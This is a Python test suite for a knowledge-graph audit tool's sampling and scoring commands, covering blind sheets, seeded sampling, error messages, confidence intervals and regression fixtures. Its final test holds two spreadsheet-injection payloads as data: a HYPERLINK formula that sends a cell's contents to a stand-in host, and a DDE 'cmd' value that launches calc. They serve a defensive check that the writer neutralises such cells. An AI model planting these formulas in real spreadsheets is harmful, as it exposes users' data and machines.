"""`kgbuild audit sample|score`: blind sheets, honest intervals, one-line errors, and the judged
sheets of the precision audit kept as regression fixtures."""

import csv
import io
import json
import os
import subprocess
import sys

import pytest

from kgbuild.audit.score import score_judgments, wilson
from kgbuild.audit.sheet import COLUMNS, Judgment, read_sheet
from kgbuild.pipeline.build import build_kg
from tests.conftest import FIXTURES

AUDITS = FIXTURES / "audit"


def kgbuild(*args, warehouse, check=True):
    env = {**os.environ, "KGBUILD_WAREHOUSE": str(warehouse)}
    proc = subprocess.run(
        [sys.executable, "-m", "kgbuild.cli", *args],
        capture_output=True, text=True, env=env, timeout=120,
    )  # fmt: skip
    if check:
        assert proc.returncode == 0, proc.stderr
    return proc


def fill(path, out, verdicts):
    """Write ``path`` with each row's verdict columns set from ``verdicts(row)``."""
    lines = path.read_text(encoding="utf-8").splitlines()
    head = [ln for ln in lines if ln.startswith("#")]
    rows = list(csv.DictReader(io.StringIO("\n".join(lines[len(head) :])), delimiter="\t"))
    buf = io.StringIO()
    buf.write("\n".join(head) + "\n")
    w = csv.DictWriter(buf, COLUMNS, delimiter="\t", lineterminator="\n")
    w.writeheader()
    for r in rows:
        r.update(verdicts(r))
        w.writerow(r)
    out.write_text(buf.getvalue(), encoding="utf-8")


@pytest.mark.slow  # CLI processes
def test_sample_is_blind_seeded_and_never_overwrites(corpus, warehouse, tmp_path):
    build_kg(corpus, kg="demo", warehouse=warehouse)
    a, b, c = tmp_path / "a.tsv", tmp_path / "b.tsv", tmp_path / "c.tsv"
    kgbuild("audit", "sample", "latest", "--n", "5", "--seed", "7", "--out", str(a),
            warehouse=warehouse)  # fmt: skip
    kgbuild("audit", "sample", "demo@2020", "--n", "5", "--seed", "7", "--out", str(b),
            warehouse=warehouse)  # fmt: skip
    kgbuild("audit", "sample", "latest", "--n", "5", "--seed", "8", "--out", str(c),
            warehouse=warehouse)  # fmt: skip
    assert a.read_bytes() == b.read_bytes()  # same snapshot and seed: same sheet
    sheet = read_sheet(a)
    assert sheet.meta["seed"] == "7" and sheet.meta["kg"] == "demo"
    assert sheet.meta["population"].endswith("evidence rows")
    assert len(sheet.rows) == 5 and {r["item"] for r in sheet.rows} == {"1", "2", "3", "4", "5"}
    # nothing that gives the verdict away: no method, grounding, confidence or support column
    header = next(ln for ln in a.read_text().splitlines() if not ln.startswith("#"))
    assert header.split("\t") == list(COLUMNS)
    assert not {"confidence", "method", "support", "grounding"} & set(header.split("\t"))
    assert all(r["claim_supported"] == "" for r in sheet.rows)
    ids = [r["evidence_id"] for r in sheet.rows]
    assert ids != [r["evidence_id"] for r in read_sheet(c).rows]  # another seed, another sample
    again = kgbuild("audit", "sample", "latest", "--out", str(a), warehouse=warehouse, check=False)
    assert again.returncode == 2 and "may hold judgments" in again.stderr


@pytest.mark.slow  # CLI processes
def test_score_records_and_quality_reports_the_audit(corpus, warehouse, tmp_path):
    build_kg(corpus, kg="demo", warehouse=warehouse)
    blank, judged = tmp_path / "blank.tsv", tmp_path / "judged.tsv"
    kgbuild("audit", "sample", "latest", "--n", "4", "--seed", "1", "--out", str(blank),
            warehouse=warehouse)  # fmt: skip
    empty = kgbuild("audit", "score", str(blank), warehouse=warehouse, check=False)
    assert empty.returncode == 2 and "no judged rows" in empty.stderr

    def verdicts(row):
        end = "yes" if row["item"] != "1" else "no"
        return {"claim_supported": "yes", "faithful": "exact", "triple_supported": end}

    fill(blank, judged, verdicts)
    got = json.loads(kgbuild("audit", "score", str(judged), "--json", warehouse=warehouse).stdout)
    assert got["end_to_end"]["k"] == 3 and got["end_to_end"]["n"] == 4
    assert got["normalization_delta"]["lowered"] == 1 and got["faithful"]["precision"] == 1.0
    assert got["recorded"].startswith(str(warehouse))
    quality = json.loads(kgbuild("quality", "--json", warehouse=warehouse).stdout)
    assert quality["audit"]["end_to_end"]["precision"] == 0.75
    assert quality["audit"]["this_snapshot"] is True
    table = kgbuild("quality", warehouse=warehouse).stdout
    assert "audited precision" in table and "75.0%" in table


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda t: t.replace("# format: kgbuild-audit-sheet/1\n", ""), "not an audit sheet"),
        (lambda t: t.replace("\tclaim_supported\t", "\tclaimed\t"), "lacks columns"),
        (lambda t: t + "1\t" + "\t" * 13 + "maybe\texact\t\tyes\t\n", "must be yes or no"),
        (lambda t: t + "1\t" + "\t" * 13 + "yes\twrong\t\tno\t\n", "needs the wrong parts"),
        (lambda t: t + "1\t" + "\t" * 13 + "yes\texact\thead\tyes\t\n", "faithful=exact"),
        (lambda t: t + "1\t" + "\t" * 13 + "yes\tgood\t\tyes\t\n", "faithful must be"),
        (lambda t: t + "x\t" + "\t" * 13 + "yes\texact\t\tyes\t\n", "item is not a number"),
    ],
)
def test_bad_sheets_are_one_clear_line(tmp_path, edit, message):
    base = "# format: kgbuild-audit-sheet/1\n# seed: 1\n" + "\t".join(COLUMNS) + "\n"
    path = tmp_path / "s.tsv"
    path.write_text(edit(base), encoding="utf-8")
    proc = kgbuild("audit", "score", str(path), "--no-record", warehouse=tmp_path, check=False)
    assert proc.returncode == 2 and message in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.mark.slow  # CLI processes
def test_binary_and_missing_sheets(tmp_path):
    binary = tmp_path / "b.tsv"
    binary.write_bytes(bytes(range(256)))
    for path, message in ((binary, "binary file"), (tmp_path / "nope.tsv", "no such audit")):
        proc = kgbuild("audit", "score", str(path), warehouse=tmp_path, check=False)
        assert proc.returncode == 2 and message in proc.stderr


def test_precision_intervals():
    # Wilson 95% for 95/100 (Newcombe 1998, method 3): 0.8882–0.9785
    assert wilson(95, 100) == [0.8882, 0.9785]
    assert wilson(100, 100)[1] == 1.0 and wilson(100, 100)[0] < 0.97
    judged = [Judgment(i, i % 4 != 0, "exact" if i % 5 else "wrong", ("head",) * (i % 5 == 0),
                       i % 3 != 0) for i in range(1, 101)]  # fmt: skip
    a, b = score_judgments(judged), score_judgments(judged)
    assert a == b  # seeded bootstrap: the same sheet scores the same
    assert a["claim_supported"]["k"] == 75 and a["faithful"]["k"] == 80
    lo, hi = a["claim_supported"]["bootstrap_95"]
    assert lo < 0.75 < hi and 0.05 < hi - lo < 0.25
    lowered = sum(j.claim_supported and not j.triple_supported for j in judged)
    assert a["normalization_delta"]["lowered"] == lowered


def test_judged_audit_fixtures_score_as_reported():
    """The judged sheets of the issue-16 audit: the baseline on the build before the fixes, and
    eight fresh samples (a new seed each) of the rebuilt KG; from seed 1604 on, each after one
    more round of ingestion and relation fixes (README "KG precision, audited"). Their figures
    are the ones in the README."""
    expected = {  # (raw claim supported, faithful, end to end, wrong relation/direction)
        "baseline_seed1601": (59, 88, 60, 5),
        "fixed_seed1602": (65, 92, 61, 1),
        "fixed_seed1603": (61, 93, 61, 1),
        "fixed_seed1604": (50, 95, 52, 1),
        "fixed_seed1605": (46, 88, 41, 1),
        "fixed_seed1606": (55, 94, 56, 1),
        "fixed_seed1607": (58, 92, 55, 2),
        "fixed_seed1608": (46, 92, 47, 1),
        "fixed_seed1609": (45, 93, 48, 0),
    }
    figures = {
        name: score_judgments(read_sheet(AUDITS / f"dalk_{name}.tsv").judgments()[0])
        for name in expected
    }
    got = {
        k: (f["claim_supported"]["k"], f["faithful"]["k"], f["end_to_end"]["k"],
            f["faithful"]["wrong_relation_or_direction"])
        for k, f in figures.items()
    }  # fmt: skip
    assert got == expected
    assert all(f["judged"] == 100 for f in figures.values())


def test_the_sheet_is_safe_to_open_in_a_spreadsheet_and_reads_back_raw(tmp_path):
    """Judges open the sheet in a spreadsheet: a shown text cell that would be a formula there
    (OWASP "CSV Injection") carries a ``'``; the item stays a number; reading drops the mark."""
    from kgbuild.audit.sheet import SHOWN, write_sheet

    hostile = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
    row = {c: f"{c} text" for c in SHOWN} | {"item": 1, "sentence": hostile,
                                            "head_name": "-2+3+cmd|' /C calc'!A0"}  # fmt: skip
    path = tmp_path / "s.tsv"
    write_sheet(path, {"seed": 1}, [row])
    lines = [ln for ln in path.read_text(encoding="utf-8").splitlines() if not ln.startswith("#")]
    (cells,) = [r for r in csv.DictReader(io.StringIO("\n".join(lines)), delimiter="\t")]
    assert cells["item"] == "1" and cells["sentence"] == "'" + hostile
    assert cells["head_name"] == "'-2+3+cmd|' /C calc'!A0"
    assert not [c for c in cells.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    (back,) = read_sheet(path).rows
    assert back["sentence"] == hostile and back["head_name"] == row["head_name"]
